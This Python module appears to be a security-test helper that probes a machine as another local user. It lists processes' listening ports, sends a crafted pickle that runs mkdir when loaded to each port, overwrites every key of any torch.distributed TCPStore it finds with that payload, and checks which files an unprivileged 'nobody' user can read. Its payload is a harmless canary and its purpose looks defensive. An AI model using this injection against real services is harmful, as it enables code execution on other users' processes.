"""Another user of the machine: what processes listen on, and what can be written there or read from them."""

import base64
import socket
import subprocess
import threading
import time
from collections.abc import Iterable
from contextlib import suppress
from datetime import timedelta
from pathlib import Path

import torch.distributed as dist

__all__ = ["NOBODY", "listening", "payload", "read_as_other_user", "write_everywhere"]

NOBODY = 65534
_LISTEN = "0A"


def payload(folder: Path) -> bytes:
    """A pickle that makes a folder when it is loaded."""
    return b"cposix\nmkdir\n(V" + str(folder).encode() + b"\ntR."


def listening(pids: Iterable[int]) -> list[tuple[str, int]]:
    """Addresses and ports on which processes accept connections; an address of IPv6 stays as the kernel writes it."""
    links = [str(file.readlink()) for pid in pids for file in Path(f"/proc/{pid}/fd").iterdir() if file.is_symlink()]
    sockets = {link.removeprefix("socket:[").rstrip("]") for link in links if link.startswith("socket:[")}
    found = []
    for table in ("tcp", "tcp6"):
        for line in Path(f"/proc/net/{table}").read_text().splitlines()[1:]:
            words = line.split()
            if words[3] == _LISTEN and words[9] in sockets:
                address, port = words[1].split(":")
                quad = socket.inet_ntoa(bytes.fromhex(address)[::-1]) if table == "tcp" else address
                found.append((quad, int(port, 16)))
    return found


def write_everywhere(ports: Iterable[int], data: bytes, keys: Iterable[str] = ()) -> list[str]:
    """Send bytes to ports as they are, and into every key of the stores that listen there; what had a store."""
    stores: list[str] = []
    threads = [threading.Thread(target=_write, args=(port, data, [*keys], stores), daemon=True) for port in ports]
    for thread in threads:
        thread.start()
    deadline = time.monotonic() + 5
    for thread in threads:  # what is no store may never answer
        thread.join(max(0.0, deadline - time.monotonic()))
    return stores


def _write(port: int, data: bytes, keys: list[str], stores: list[str]) -> None:
    with suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=2) as raw:
        raw.sendall(data)
    with suppress(RuntimeError, OSError):  # no store
        store = dist.TCPStore(  # type: ignore[attr-defined]
            "127.0.0.1", port, is_master=False, timeout=timedelta(seconds=2), wait_for_workers=False
        )
        for key in {*keys, *(store.list_keys() if hasattr(store, "list_keys") else ())}:
            store.set(key, base64.b64encode(data).decode())
        stores.append(f"port {port}")


def read_as_other_user(paths: Iterable[str]) -> list[str]:
    """Those of the paths that a process without rights can open."""
    code = 'for path; do (: < "$path") 2> /dev/null && echo "$path"; done; true'
    done = subprocess.run(
        ["/bin/sh", "-c", code, "sh", *paths],
        user=NOBODY,
        group=NOBODY,
        extra_groups=[],
        stdout=subprocess.PIPE,
        text=True,
        check=True,
        timeout=100,
    )
    return done.stdout.split()
